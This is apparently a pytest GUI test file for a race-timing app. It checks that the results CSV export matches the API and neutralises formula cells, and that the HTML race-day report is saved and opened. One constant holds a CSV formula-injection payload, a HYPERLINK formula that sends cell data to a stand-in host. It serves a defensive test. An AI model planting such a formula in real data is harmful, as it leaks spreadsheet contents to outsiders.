"""The Display page's results exports on the real app (offscreen, qasync loop): "Export results
CSV…" writes exactly what GET .../results.csv answers (formula-like names neutralised), and
"Race-day report…" writes the report page to a file and opens it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtWidgets import QFileDialog
from pytestqt.qtbot import QtBot

from tests.replay.race import RULES, race_lines
from tests.ui.conftest import Desktop, until

pytestmark = pytest.mark.gui
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"win")'


async def finished_race(desktop: Desktop, tmp_path: Path) -> Any:
    """40 runners (bib 3's first name a spreadsheet formula) and their race, bound to a session
    that is the one the Display page shows."""
    services = desktop.services
    folder = tmp_path / "FINISH"
    folder.mkdir()
    (folder / "1.csv").write_text("\n".join(race_lines(60)) + "\n")
    event = await services.events.create_event({"name": "Export 5K", "date": "2021-05-08"})
    rows = [{"bib": str(b), "first_name": f"Runner{b}", "last_name": "R"} for b in range(1, 41)]
    rows[2]["first_name"] = HOSTILE
    await services.ops.roster.import_participants(event.id, rows)
    imported = await services.ops.timing.import_files({"path": str(folder), "timezone": "UTC"})
    body = {
        "event_id": event.id,
        "mode": "results",
        "rules": RULES,
        "name": "Finish",
        "timing_session_ids": [imported.summary["timing_session_id"]],
    }
    session = (await services.ops.sessions.create(body)).session
    await until(lambda: session.finishers == 41, what="the race shown")
    w = desktop.window
    w.flow.set_user("")
    w.flow.set_session(session.id)
    assert w.go(w.pages.index(w.display_page))
    await until(lambda: w.display_page.csv_button.isEnabled(), what="the export buttons")
    return session


async def save_as(qtbot: QtBot, button: Any, page: Any, path: Path) -> None:
    """Click ``button``, answer its save dialog with ``path``."""
    qtbot.mouseClick(button, Qt.MouseButton.LeftButton)
    dialog = await until(lambda: next((d for d in page.findChildren(QFileDialog) if d.isVisible()), None))
    assert dialog.acceptMode() == QFileDialog.AcceptMode.AcceptSave
    dialog.selectFile(str(path))
    dialog.accept()


async def api_get(desktop: Desktop, path: str) -> bytes:
    s = desktop.services
    headers = {"Authorization": f"Bearer {s.api_token}"}
    async with aiohttp.ClientSession() as http, http.get(s.public_base_url + path, headers=headers) as r:
        assert r.status == 200, await r.text()
        return await r.read()


async def test_results_csv_from_the_display_page_is_the_apis(
    qtbot: QtBot, desktop: Desktop, tmp_path: Path
) -> None:
    session = await finished_race(desktop, tmp_path)
    page = desktop.window.display_page
    out = tmp_path / "exports" / "results.csv"
    out.parent.mkdir()
    await save_as(qtbot, page.csv_button, page, out)
    await until(lambda: out.exists() and "Results exported" in page.message.text(), what="written")
    written = out.read_bytes()
    assert written == await api_get(desktop, f"/api/sessions/{session.id}/results.csv")
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"))))
    assert len(rows) == 42  # the header and 41 finishes
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@")]  # no cell a formula
    assert any(c.startswith("'=HYPERLINK") for r in rows for c in r)  # the hostile name, neutralised
    assert [p.name for p in out.parent.iterdir()] == ["results.csv"]  # no temporary file left
    assert not desktop.window.error_panel.isVisible()


async def test_race_day_report_is_written_and_opened(qtbot: QtBot, desktop: Desktop, tmp_path: Path) -> None:
    session = await finished_race(desktop, tmp_path)
    page = desktop.window.display_page
    opened: list[QUrl] = []
    page.open_file = opened.append  # the OS would open a browser here
    out = tmp_path / "report.html"
    await save_as(qtbot, page.report_button, page, out)
    await until(lambda: opened, what="the report opened")
    assert opened == [QUrl.fromLocalFile(str(out))]
    html = out.read_text("utf-8")
    api = (await api_get(desktop, f"/api/sessions/{session.id}/report.html")).decode("utf-8")
    assert html.startswith("<!doctype html>") and "Export 5K" in html and "<svg" in html
    assert "<script" not in html.lower()

    def made_at(page_text: str) -> str:  # the same page as the API's but for the moment it was made
        return re.sub(r"Generated [0-9: -]+ UTC", "Generated … UTC", page_text)

    assert made_at(html) == made_at(api) and made_at(html) != html
    assert "Race-day report saved" in page.message.text()
